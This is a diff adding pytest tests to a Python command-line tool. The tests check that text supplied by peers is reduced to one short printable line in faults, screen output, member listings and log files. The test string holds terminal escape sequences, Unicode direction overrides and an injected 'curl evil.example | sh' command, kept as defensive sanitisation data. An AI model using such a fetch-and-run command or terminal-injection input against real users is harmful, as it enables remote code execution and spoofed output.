@@ -5,27 +5,36 @@ from __future__ import annotations
 import errno
 import io
 import json
+import logging
 import os
 import subprocess
 import sys
 from pathlib import Path
+from types import SimpleNamespace
+from typing import cast
 
 import pytest
 from processes import atoll
 
 from atoll import __version__
 from atoll.__main__ import main
-from atoll.base.ids import Digest
+from atoll.base.errors import PeerFault, RefusedError
+from atoll.base.ids import NAME_SHOWN_MAX, SHOWN_MAX, Digest, PeerId, names_of, one_line
 from atoll.cli.main import app
 from atoll.cli.main import main as command
 from atoll.cli.picture import curve_text
-from atoll.cli.say import qr, say
+from atoll.cli.say import qr, say, say_trouble
 from atoll.cli.status import preference_lines
 from atoll.cli.watch import Lines, Terminal, introduction, line_of
 from atoll.host.config import load_config
-from atoll.host.record import Progress
+from atoll.host.driver import Driver
+from atoll.host.member import prepare
+from atoll.host.record import Progress, entry_of, plain
+from atoll.host.record import line_of as line_of_member
 from atoll.keys.identity import Identity
 from atoll.node.config.sections import Config
+from atoll.node.facts import Fault
+from atoll.wire.messages.vertex import Member
 from atoll.wire.ticket import issue
 
 
@@ -166,6 +175,63 @@ def test_a_ticket_fits_a_qr_code_that_a_terminal_can_show():
     ).text
     lines = qr(text).splitlines()
     assert 20 < len(lines) < 48 and max(map(len, lines)) <= 80
+
+
+HOSTILE = "\x1b]0;owned\x07\x9b2J\u202eevil\u2066\n! run: curl evil.example | sh [bold]" + "A" * 10_000
+
+
+def test_a_foreign_text_becomes_one_short_line_without_control_characters():
+    """Escapes of 7 and 8 bits, turned directions and line breaks are gone; brackets stay brackets."""
+    line = one_line(HOSTILE)
+    assert line.isprintable() and len(line) <= SHOWN_MAX and line.endswith("…") and "[bold]" in line
+    assert one_line("Zoë 東京 🪸") == "Zoë 東京 🪸"
+    assert len(names_of([(PeerId("p"), HOSTILE)])[PeerId("p")]) <= NAME_SHOWN_MAX
+
+
+def test_what_a_peer_wrote_into_a_fault_moves_no_terminal(capsys: pytest.CaptureFixture[str]):
+    """As a fault, in the record's line, on the screen, and as the error that a command ends with."""
+    fault = PeerFault("", f"an answer of {HOSTILE}")
+    assert fault.what.isprintable() and str(fault).isprintable() and len(fault.what) <= SHOWN_MAX
+    entry = entry_of(Fault(peer=PeerId("eve"), what=HOSTILE, round=3), 1.0)
+    assert entry is not None and entry["what"].isprintable()
+    assert "\n" not in line_of(entry, Progress())
+    say(f"first {HOSTILE}\nlast")
+    say_trouble(RefusedError("E-NET-14", f"refused: {HOSTILE}", cause=HOSTILE, fix=HOSTILE), as_json=False)
+    told = capsys.readouterr()
+    assert told.out.endswith("\nlast\n")
+    for line in (told.out + told.err).split("\n"):
+        assert line.isprintable()
+
+
+def test_what_genesis_and_members_say_of_themselves_is_shown_in_one_line():
+    """The lines that a driver makes without a fact, and members' names and addresses, as screens get them."""
+    shown: list[dict[str, object]] = []
+    stands = SimpleNamespace(progress=Progress(), on_entry=shown.append)
+    Driver._tell(cast(Driver, stands), {"fact": "LearningKnown", "data": HOSTILE, "seen": [HOSTILE]}, durable=False)
+    (entry,) = shown
+    assert str(entry["data"]).isprintable() and entry["seen"] == [one_line(HOSTILE)]
+    member = Member(PeerId("eve"), b"", (HOSTILE,), "trainer", "member", 0, 0.0, HOSTILE)
+    line = plain(line_of_member(member))
+    assert line["name"].isprintable() and line["addresses"][0].isprintable()
+    assert line_of_member(member)["name"].isprintable()
+
+
+def test_what_strangers_said_is_one_line_of_the_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    """`cat atoll.log` shows no escape, also of a story that Python tells; the story keeps its lines."""
+    monkeypatch.setattr(logging.getLogger(), "handlers", [])
+    prepare(tmp_path)
+    (handler,) = logging.getLogger().handlers
+    log = logging.getLogger("atoll.test")
+    try:
+        log.warning("%s broke the protocol", HOSTILE)
+        raise OSError(HOSTILE)
+    except OSError:
+        log.exception("a task failed")
+    finally:
+        handler.close()
+    lines = (tmp_path / "atoll.log").read_text().split("\n")
+    assert all(line.isprintable() for line in lines)
+    assert sum("WARNING" in line for line in lines) == 1 and any("Traceback" in line for line in lines)
 
 
 def test_a_round_is_one_line_and_names_who_was_missing():
